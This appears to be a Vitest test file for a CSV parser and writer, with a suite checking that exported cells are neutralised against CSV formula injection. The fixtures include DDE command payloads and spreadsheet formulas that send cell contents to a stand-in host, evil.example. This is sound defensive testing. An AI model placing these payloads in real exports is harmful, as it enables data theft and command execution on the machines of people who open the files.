import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv } from './csv';

describe('CSV', () => {
  it('reads semicolon CSV with quotes, embedded separators, quotes and line breaks', () => {
    const text = '\uFEFFnome;documento;observações\r\n"Silva; Souza Ltda.";11.222.333/0001-81;"Disse ""olá""\nem duas linhas"\r\nAna;111.444.777-35;\r\n';
    expect(parseCsv(text)).toEqual([
      ['nome', 'documento', 'observações'],
      ['Silva; Souza Ltda.', '11.222.333/0001-81', 'Disse "olá"\nem duas linhas'],
      ['Ana', '111.444.777-35', ''],
    ]);
  });

  it('reads comma CSV when the header uses commas, and skips blank lines', () => {
    expect(parseCsv('a,b\n\n1,2\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(parseCsv('nome;cidade\n"Souza, Ana";São Paulo\n ; \n')).toEqual([
      ['nome', 'cidade'],
      ['Souza, Ana', 'São Paulo'],
    ]);
  });

  it('reads text without a BOM and with LF line ends', () => {
    expect(parseCsv('a;b\n1;2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(parseCsv('')).toEqual([]);
  });

  it('writes ";" separators, CRLF line ends and a BOM, quoting only what needs it', () => {
    expect(
      toCsv([
        ['Nome', 'Obs'],
        ['Ana', 'a;b'],
        ['José "Zé"', 'x'],
      ]),
    ).toBe('\uFEFFNome;Obs\r\nAna;"a;b"\r\n"José ""Zé""";x\r\n');
    expect(toCsv([['a']]).startsWith('\uFEFF')).toBe(true);
    expect(toCsv([])).toBe('\uFEFF\r\n');
  });

  it('writes what it reads back: quotes, ";" and line breaks inside cells, accents, BOM', () => {
    const rows = [
      ['Nome', 'Obs', 'Cidade'],
      ['José "Zé" da Silva', 'linha 1\nlinha 2; fim', 'São Paulo'],
      ['"aspas"', 'crlf\r\ndentro', ' espaços nas pontas '],
      ['', '', 'só a última'],
      ['\uFEFFcom BOM no meio', ';', '""'],
    ];
    const csv = toCsv(rows);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(parseCsv(csv)).toEqual(rows);
  });
});

describe('CSV formula neutralising (OWASP CSV injection)', () => {
  // 23 kinds of cells a spreadsheet would evaluate.
  const formulas = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1;"Clique aqui")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '-2+3',
    '+2+3',
    '@SUM(1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=";A1);"//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    '\t',
    '=',
    '=1\n=2',
    '=SOMA(1;2)',
    '+55 11 98765-4321',
    '-1234,56',
    // Past OWASP's list: leading spaces, a line feed, DDE's pipe, the full-width signs.
    ' =1',
    "  +cmd|' /C calc'!A0",
    '\n=1',
    "|cmd' /C calc'!A0",
    '＝1+1',
    "＋cmd|' /C calc'!A0",
    '＠SUM(1)',
  ];

  it('has 30 kinds of formula cells under test', () => {
    expect(new Set(formulas).size).toBe(30);
  });

  it.each(formulas)('writes %j with a leading apostrophe, quoted', (cell) => {
    const csv = toCsv([['coluna'], [cell]]);
    const [, line] = csv.slice(1).split('\r\n');
    // Quoted and starting with the apostrophe: the spreadsheet shows text.
    expect(line?.startsWith(`"'`)).toBe(true);
    expect(csv).toContain(`"'${cell.replace(/"/g, '""')}"`);
  });

  it('reads its own export back to the original values', () => {
    const rows = [['coluna', 'outra'], ...formulas.map((cell) => [cell, 'ok'])];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });

  it('leaves other cells alone, including an apostrophe that does not guard a formula', () => {
    expect(toCsv([['Ana', '(11) 98765-4321', "'texto", ' Ana', 'a=b', '1-2']])).toBe('\uFEFFAna;(11) 98765-4321;\'texto;" Ana";a=b;1-2\r\n');
    expect(parseCsv("nome;obs\nAna;'texto")).toEqual([
      ['nome', 'obs'],
      ['Ana', "'texto"],
    ]);
  });
});
